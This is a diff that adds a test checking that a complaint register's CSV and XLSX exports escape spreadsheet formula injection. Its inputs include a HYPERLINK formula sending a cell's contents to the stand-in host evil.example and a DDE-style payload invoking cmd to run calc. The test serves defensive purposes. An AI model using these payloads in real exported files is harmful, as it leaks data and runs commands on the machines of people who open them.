@@ -79,3 +79,34 @@ describe('R7: the complaint register as a file (exports)', () => {
     expect((await download(agents.center, '/exports/register.csv?fiscalYear=2026')).status).toBe(400);
   });
 });
+
+describe('formula injection in the register (issue 9, item 15)', () => {
+  it('writes a subject, accused or phone that starts a formula with a quote in CSV, and as plain text in XLSX', async () => {
+    const subject = '=HYPERLINK("http://evil.example/?leak="&A2,"ดูรายละเอียด")';
+    const recorded = await new Workflow(agents.center, agents.commander).record({
+      receivedAt: '2026-03-04T09:00:00+07:00',
+      incidentAt: null,
+      subject,
+      accused: [{ fullName: '@SUM(1+1)*cmd|\' /C calc\'!A0', position: '-เจ้าพนักงาน', unit: '+กองช่าง' }],
+      complainant: { fullName: '\t=1+1', phone: '+66 81 234 5678' },
+    });
+    const csv = await (await download(agents.center, '/exports/register.csv?fiscalYear=2569')).text();
+    const line = csv.split('\r\n').find((row) => row.startsWith(`"${recorded.receiptNumber}"`))!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""ดูรายละเอียด"")"`);
+    expect(line).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0 -เจ้าพนักงาน +กองช่าง"`);
+    // Stored trimmed (the tab is gone), still a formula without the quote.
+    expect(line).toContain(`"'=1+1"`);
+    expect(line).toContain(`"'+66 81 234 5678"`);
+    // No cell of the file starts a formula: every one is quoted, and none opens with = + - @ tab CR.
+    for (const cell of csv.replace(/^\uFEFF/, '').trim().split(/\r\n/).flatMap((row) => row.slice(1, -1).split('","'))) {
+      expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await download(agents.center, '/exports/register.xlsx?fiscalYear=2569')).arrayBuffer());
+    const row = workbook.worksheets[0].getColumn(1).values.findIndex((value) => value === recorded.receiptNumber);
+    const cell = workbook.worksheets[0].getRow(row).getCell(4);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(subject);
+  });
+});
+
